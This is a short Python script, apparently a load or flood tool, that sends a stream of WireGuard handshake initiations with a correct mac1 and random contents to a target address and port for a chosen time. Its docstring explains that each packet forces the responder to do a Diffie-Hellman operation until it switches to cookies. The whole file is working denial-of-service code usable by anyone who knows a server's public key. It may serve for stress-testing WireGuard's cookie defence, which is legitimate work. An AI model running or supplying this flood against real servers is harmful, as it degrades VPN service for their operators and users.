"""Sends WireGuard initiations with a right mac1 and random contents, as fast as is useful.

Usage: kernel-guest-flood.py PUBLIC-KEY ADDRESS PORT SECONDS

Anybody who knows a responder's public key can make such packets; each costs the responder a
Diffie-Hellman operation until it finds itself under load and asks for a cookie. The answers are
not read. Needs nothing but Python.
"""
import base64
import hashlib
import os
import socket
import sys
import time

BATCH = 64
PAUSE = 0.01


def main():
    public_key = base64.b64decode(sys.argv[1])
    mac1_key = hashlib.blake2s(b"mac1----" + public_key).digest()
    address = (sys.argv[2], int(sys.argv[3]))
    end = time.monotonic() + float(sys.argv[4])
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while time.monotonic() < end:
        for _ in range(BATCH):
            body = b"\x01\0\0\0" + os.urandom(112)
            mac1 = hashlib.blake2s(body, key=mac1_key, digest_size=16).digest()
            sock.sendto(body + mac1 + bytes(16), address)
        time.sleep(PAUSE)


main()
